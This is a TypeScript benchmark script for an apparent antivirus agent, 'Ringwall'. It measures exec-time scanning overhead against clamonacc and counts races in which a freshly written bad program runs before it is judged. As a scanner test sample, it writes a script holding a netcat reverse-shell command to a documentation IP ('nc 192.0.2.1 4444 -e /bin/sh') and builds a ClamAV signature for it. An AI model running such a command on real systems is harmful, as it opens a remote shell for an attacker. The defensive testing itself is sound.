/**
 * What real-time protection costs each start of a program, beside clamonacc, and whether a bad program ever runs in a
 * race with its writer: ./ringwall bench realtime. Needs root. Everything is guarded on file systems of its own, so
 * nothing else on this machine is held.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findHelper, type Guard, openGuard } from '@ringwall/kernel'
import { createSite, type Json, type Site, waitFor } from '../tests/e2e/harness.ts'
import { say } from './figures.ts'
import { writeSection } from './section.ts'

const turns = Number(process.env.RINGWALL_BENCH_STARTS ?? 4_000)
/** A slow peer, and files that are judged: each start is measured by itself. */
const slowTurns = Math.ceil(turns / 8)
/** Until what is started often passes in the kernel. */
const warmTurns = 20
const tries = Number(process.env.RINGWALL_BENCH_RACES ?? 10_000)
const racers = 3
/** Not root: clamonacc leaves root alone, so that its own clamd can read. */
const nobody = 65_534

const quantile = (sorted: number[], part: number) => sorted[Math.floor(sorted.length * part)] ?? 0
const us = (ns: number) => (ns / 1000).toFixed(1)

const work = mkdtempSync(join(tmpdir(), 'ringwall-bench-'))
chmodSync(work, 0o777)
const load = join(work, 'load')
const image = join(work, 'image')
const mounted: string[] = []
const sources = join(import.meta.dirname, '../packages/kernel/src/testdata')

/** A file system of its own, in a file. */
function mount(name: string): string {
  const path = join(work, name)
  mkdirSync(path)
  execFileSync('truncate', ['-s', '512M', `${path}.img`])
  execFileSync('mkfs.ext4', ['-q', '-I', '256', `${path}.img`])
  execFileSync('mount', ['-o', 'loop', `${path}.img`, path])
  chmodSync(path, 0o777)
  mounted.push(path)
  copyFileSync(image, join(path, 'program'))
  chmodSync(join(path, 'program'), 0o755)
  return path
}

/** A measured place: programs that are started, and those that they are compared with. */
type Place = { name: string; path: string; base?: string }

/** Nanoseconds of each start, by place; all places in turn, so that what else the machine does meets them alike. */
async function start(places: { path: string }[], count: number): Promise<Map<string, number[]>> {
  // Its parent is gone when it begins: what a guard's own process starts would never be held.
  const out = join(work, 'out')
  const line = 'sleep 0.2; out=$0; "$@" > "$out.part" && mv "$out.part" "$out"'
  const command = [load, 'starts', String(count), ...places.map(({ path }) => path)]
  const args = ['-c', `setsid sh -c '${line}' "$0" "$@" &`, out, ...command]
  spawn('sh', args, { stdio: ['ignore', 'ignore', 'inherit'], uid: nobody, gid: nobody })
  const text = await waitFor('the starts', async () => readFileSync(out, 'utf8'), 1_200_000)
  rmSync(out)
  const rows = text
    .trim()
    .split('\n')
    .map((row) => row.split(' ').map(Number))
  return new Map(places.map(({ path }, index) => [path, rows.map((row) => row[index] ?? 0)]))
}

/** Many programs, so that each is started once; `isNew` gives each a content that nobody has seen. */
function manyPrograms(folder: string, count: number, isNew = false): string {
  const program = readFileSync(image)
  mkdirSync(join(folder, 'many'))
  for (let index = 0; index < count; index += 1) {
    const content = isNew ? Buffer.concat([program, Buffer.from(`${process.pid} ${index}`)]) : program
    writeFileSync(join(folder, 'many', String(index)), content, { mode: 0o755 })
  }
  return join(folder, 'many/%d')
}

/** clamonacc with prevention on its own file system; why it does not run here, otherwise. */
async function startClamonacc(folder: string): Promise<{ stop: () => void } | string> {
  if (spawnSync('which', ['clamonacc', 'clamd']).status !== 0) return 'clamonacc is not installed'
  const database = join(work, 'signatures')
  mkdirSync(database)
  writeFileSync(
    join(database, 'bench.ndb'),
    `Bench.Script:0:*:${Buffer.from('nc 192.0.2.1 4444 -e').toString('hex')}\n`,
  )
  const socket = join(work, 'clamd.sock')
  const config = join(work, 'clamd.conf')
  writeFileSync(
    config,
    `LocalSocket ${socket}\nDatabaseDirectory ${database}\nUser root\nForeground yes\nOnAccessPrevention yes\nOnAccessIncludePath ${folder}\nOnAccessExcludeRootUID yes\nOnAccessExtraScanning no\nLogFile ${join(work, 'clamd.log')}\n`,
  )
  const clamd = spawn('clamd', ['-c', config], { stdio: 'ignore' })
  await waitFor('clamd', () => Promise.resolve(existsSync(socket) ? true : undefined))
  const log = join(work, 'clamonacc.log')
  const onAccess = spawn('clamonacc', ['-c', config, '--foreground', '--log', log], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let said = ''
  for (const stream of [onAccess.stdout, onAccess.stderr])
    stream.on('data', (chunk) => (said += String(chunk)))
  const stop = () => {
    onAccess.kill('SIGKILL')
    clamd.kill('SIGKILL')
  }
  // It works when it denies what its one signature knows.
  const bad = join(folder, 'bad.sh')
  writeFileSync(bad, `#!/bin/sh\nexit 99\n${['nc', '192.0.2.1 4444 -e /bin/sh'].join(' ')}\n`)
  chmodSync(bad, 0o755)
  try {
    await waitFor(
      'clamonacc to deny',
      () =>
        Promise.resolve(spawnSync(bad, { uid: nobody, gid: nobody }).error === undefined ? undefined : true),
      20_000,
    )
    return { stop }
  } catch {
    stop()
    return `it did not deny a file that its signature knows (${said.trim().split('\n').at(-1) ?? ''})`
  }
}

async function figures(site: Site, machineId: string): Promise<Json> {
  await new Promise((resolve) => setTimeout(resolve, 12_000))
  const { machine } = await site.get<{ machine: { agent: { realtime: Json } } }>(`/machines/${machineId}`)
  return machine.agent.realtime
}

/** Pairs of one turn cancel what the machine did at that time; the tails are compared as a whole. */
function costRow({ name, path, base }: Place, ns: Map<string, number[]>, skip: number): string {
  const own = (ns.get(path) ?? []).slice(skip)
  const sorted = (values: number[]) => values.toSorted((a, b) => a - b)
  const [median, p99] = [0.5, 0.99].map((part) => quantile(sorted(own), part)) as [number, number]
  const cells = [name, String(own.length), us(median), us(p99)]
  if (base === undefined) return `| ${[...cells, '', ''].join(' | ')} |`
  const other = (ns.get(base) ?? []).slice(skip)
  const pairs = sorted(own.map((value, turn) => value - (other[turn] ?? 0)))
  const addedP99 = p99 - quantile(sorted(other), 0.99)
  return `| ${[...cells, us(quantile(pairs, 0.5)), us(addedP99)].join(' | ')} |`
}

/** The same helper without files that the kernel lets pass by itself: each start is answered from its table. */
async function guardByTable(folder: string): Promise<Guard> {
  const guard = await openGuard({
    helperPath: findHelper(),
    mode: 'exec',
    onAsk: async () => ({ allows: true, remember: 'clean' }),
    onEnd: ({ reason }) => say(`the helper ended: ${reason}`),
  })
  await guard.mark(Buffer.from(folder))
  return guard
}

/** What the agent tells the helper of files that its manifest knows. */
function tell(guard: Guard, folder: string): void {
  const names = readdirSync(join(folder, 'many'))
  guard.remember(
    names.map((name) => {
      const { dev, ino, ctimeNs, mtimeNs, size } = statSync(join(folder, 'many', name), { bigint: true })
      return {
        key: { device: dev, inode: ino, ctimeNs, mtimeNs, sizeBytes: size },
        verdict: 'clean' as const,
      }
    }),
  )
}

async function measureCost(site: Site, machineId: string, guarded: string): Promise<string[]> {
  const [plain, table, theirs] = [mount('plain'), mount('table'), mount('clamonacc')]
  const program = (folder: string) => join(folder, 'program')
  const many = { plain: manyPrograms(plain, turns), table: manyPrograms(table, turns) }
  const guard = await guardByTable(table)
  tell(guard, table)
  const known: Place[] = [
    { name: 'nothing', path: program(plain) },
    { name: 'Ringwall: the kernel lets it pass', path: program(guarded), base: program(plain) },
    { name: 'Ringwall: the helper answers', path: program(table), base: program(plain) },
    { name: 'nothing, another program each time', path: many.plain },
    { name: 'Ringwall: the first start of a file that a scan knows', path: many.table, base: many.plain },
  ]
  say(`${turns} turns of known programs`)
  const before = await figures(site, machineId)
  const rows = await start(known, turns)
  await guard.close()
  const after = await figures(site, machineId)
  if (after.problem !== null) throw new Error(String(after.problem))
  const strange: Place[] = [
    { name: 'nothing, the same turns', path: many.plain },
    {
      name: 'Ringwall: the first start of a file that nobody has seen (hash, upload, verdict)',
      path: manyPrograms(guarded, slowTurns, true),
      base: many.plain,
    },
  ]
  say(`${slowTurns} turns of unknown programs`)
  const strangeRows = await start(strange, slowTurns)
  const peer = await startClamonacc(theirs)
  const peers: Place[] = [
    { name: 'nothing, the same turns as clamonacc', path: program(plain) },
    { name: 'clamonacc, prevention on', path: program(theirs), base: program(plain) },
  ]
  if (typeof peer !== 'string') say(`${slowTurns} turns of clamonacc`)
  const peerRows = typeof peer === 'string' ? new Map<string, number[]>() : await start(peers, slowTurns)
  if (typeof peer !== 'string') peer.stop()
  const asked = Number(after.events) - Number(before.events)
  return [
    'Start and end of a static program of 13 KiB by vfork and execve, each guard on an ext4 of its own. All places of a table are started in turn, each time another one first; the added median is that of the differences within a turn.\n',
    '| guarded by | starts | median µs | p99 µs | added, median µs | added, p99 µs |',
    '| --- | ---: | ---: | ---: | ---: | ---: |',
    ...known.map((row) => costRow(row, rows, warmTurns)),
    ...strange.map((row) => costRow(row, strangeRows, 0)),
    ...(typeof peer === 'string' ? [] : peers.map((row) => costRow(row, peerRows, 0))),
    ...(typeof peer === 'string' ? ['', `clamonacc was not measured: ${peer}.`] : []),
    '',
    `Of ${turns} starts in the first of our rows, the kernel asked the helper about ${asked}.`,
    '',
  ]
}

type Outcome = { ran: number; denied: number; goodRan: number; gaveUp: number; firstRan: number }

async function race(folder: string, count: number): Promise<Outcome> {
  mkdirSync(folder, { recursive: true })
  const racing = spawn(load, ['race', folder, String(count), image], { stdio: ['ignore', 'pipe', 'inherit'] })
  let text = ''
  racing.stdout.on('data', (chunk) => (text += String(chunk)))
  const code = await new Promise((resolve) => racing.on('close', resolve))
  if (code !== 0) throw new Error(`the races ended with ${String(code)}`)
  return JSON.parse(text) as Outcome
}

async function measureRaces(site: Site, machineId: string, guarded: string): Promise<string[]> {
  say(`${tries} races`)
  const startedAtMs = performance.now()
  const each = Math.ceil(tries / racers)
  const all = await Promise.all(
    Array.from({ length: racers }, async (_, index) => await race(join(guarded, `races-${index}`), each)),
  )
  const sum = (name: keyof Outcome) => all.reduce((total, told) => total + told[name], 0)
  const secondsTaken = ((performance.now() - startedAtMs) / 1000).toFixed(0)
  const { timeouts, unjudged } = await figures(site, machineId)
  return [
    '## Races of writing and running\n',
    `${each * racers} files, each written while two processes and a thread of a third try to run it, in seven ways in turn: a new script, a known good program overwritten, overwritten through a mapping whose pages were dirty before, replaced by rename; the EICAR test file, a hard link to a bad program, a bad program that is made executable at last. Real scanner, real vault; ${racers} races at once; ${secondsTaken} s.\n`,
    '| outcome | times |',
    '| --- | ---: |',
    `| **a bad program ran** | **${sum('ran')}** |`,
    `| a bad program was denied | ${sum('denied')} |`,
    `| the good one ran, before it was overwritten | ${sum('goodRan')} |`,
    `| given up after 20 s | ${sum('gaveUp')} |`,
    '',
    `Policy: \`whenScannerAway: deny\`, \`budgetMs: 30000\`. Answers that came too late: ${String(timeouts)}; starts without a verdict: ${String(unjudged)}.`,
    '',
  ]
}

// The vault syncs what it takes away. The races are about answers, not about this machine's disk.
const memory = join(work, 'memory')
mkdirSync(memory)
execFileSync('mount', ['-t', 'tmpfs', '-o', 'mode=711', 'tmpfs', memory])
mounted.push(memory)
process.env.TMPDIR = memory
const site = await createSite()
try {
  execFileSync('gcc', ['-O2', '-static', '-o', load, join(sources, 'load.c')])
  const imageFlags = ['-Os', '-static', '-nostdlib', '-fno-stack-protector']
  execFileSync('gcc', [...imageFlags, '-o', image, join(sources, 'image.c')])
  const guarded = mount('guarded')
  await site.startScanner()
  const machineId = await site.startAgent('agent', { RINGWALL_AGENT_WATCH: guarded })
  await waitFor('the guard', async () => {
    const { machine } = await site.get<{ machine: { agent: { realtime: Json | null } | null } }>(
      `/machines/${machineId}`,
    )
    return machine.agent?.realtime?.mode === 'exec' ? true : undefined
  })
  const { policy } = await site.get<{ policy: Json }>('/policies/malware')
  const realtime = { ...(policy.realtime as Json), whenScannerAway: 'deny', budgetMs: 30_000 }
  await site.api('PUT', '/policies/malware', { ...policy, realtime })
  await new Promise((resolve) => setTimeout(resolve, 2_000))
  const version = spawnSync('clamonacc', ['--version']).stdout
  const kernel = execFileSync('uname', ['-r']).toString().trim()
  const peers = [`Linux ${kernel}`, ...(version === null ? [] : [String(version).trim()])]
  const write = (lines: string[]) => writeSection('realtime', 'Real-time protection', peers, lines.join('\n'))
  // What took long to measure is kept even when the rest is cut short.
  const cost = await measureCost(site, machineId, guarded)
  write(cost)
  write([...cost, ...(await measureRaces(site, machineId, guarded))])
  say('wrote bench/results/realtime.md')
} finally {
  await site.close()
  for (const path of mounted) spawnSync('umount', ['-l', path])
  rmSync(work, { recursive: true, force: true })
}
